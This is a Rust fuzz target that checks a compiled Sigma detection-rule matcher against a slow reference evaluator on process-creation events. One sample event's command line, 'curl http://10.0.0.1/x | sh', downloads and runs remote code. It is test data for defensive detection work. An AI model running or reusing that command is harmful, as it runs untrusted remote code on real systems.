//! Sigma content (a YAML stream of rules) as a content author writes it: the per-document
//! parser, the compiler (literal automata, regexes, CIDRs, modifiers) and the compiled matcher,
//! which must agree with the slow reference evaluator on every rule it compiled. A mismatch
//! means the agent allows or denies something the rule's text does not say.
//!
//! Input: the content, then optionally a NUL byte and the event's Image, CommandLine,
//! ParentImage, User and TargetFilename values, one per line.

#![no_main]

use libfuzzer_sys::fuzz_target;
use ringfence_sigma::{
    Categories, Config, EventFields, Field, Rule, RuleSet, Scratch, parse_stream, reference,
};
use std::collections::HashMap;

const FIELDS: [Field; 5] = [
    Field::Image,
    Field::CommandLine,
    Field::ParentImage,
    Field::User,
    Field::TargetFilename,
];

/// Events tried when the input names none: a shell pipeline and a plain exec.
const EVENTS: &[[&str; 5]] = &[
    [
        "/usr/bin/bash",
        "bash -c curl http://10.0.0.1/x | sh",
        "/usr/sbin/sshd",
        "root",
        "/tmp/x",
    ],
    ["/usr/bin/ls", "ls -la", "/bin/sh", "alice", ""],
];

fn event<'a>(values: impl IntoIterator<Item = &'a str>) -> EventFields<'a> {
    let mut event = EventFields::new(Categories::PROCESS_CREATION);
    for (field, value) in FIELDS.into_iter().zip(values) {
        event.set(field, Some(value.into()));
    }
    event
}

fuzz_target!(|data: &[u8]| {
    let (content, values) = match data.iter().position(|&b| b == 0) {
        Some(at) => (&data[..at], Some(String::from_utf8_lossy(&data[at + 1..]))),
        None => (data, None),
    };
    let Ok((rules, _skipped)) = parse_stream(content) else {
        return;
    };
    let by_id: HashMap<String, Rule> = rules.iter().map(|r| (r.id.clone(), r.clone())).collect();
    let (set, _failed) = RuleSet::compile(rules, &Config::default());
    let events: Vec<EventFields<'_>> = match &values {
        Some(text) => vec![event(text.split('\n'))],
        None => EVENTS
            .iter()
            .map(|values| event(values.iter().copied()))
            .collect(),
    };
    let mut scratch = Scratch::default();
    for event in &events {
        let expected: Vec<u32> = set
            .rules()
            .iter()
            .enumerate()
            .filter(|(_, info)| reference::matches(&by_id[&info.id], event))
            .map(|(i, _)| i as u32)
            .collect();
        assert_eq!(
            set.matching(event, &mut scratch),
            expected,
            "event {event:?}"
        );
        let outcome = set.evaluate(event, &mut scratch);
        assert_eq!(outcome.is_some(), !expected.is_empty());
    }
});
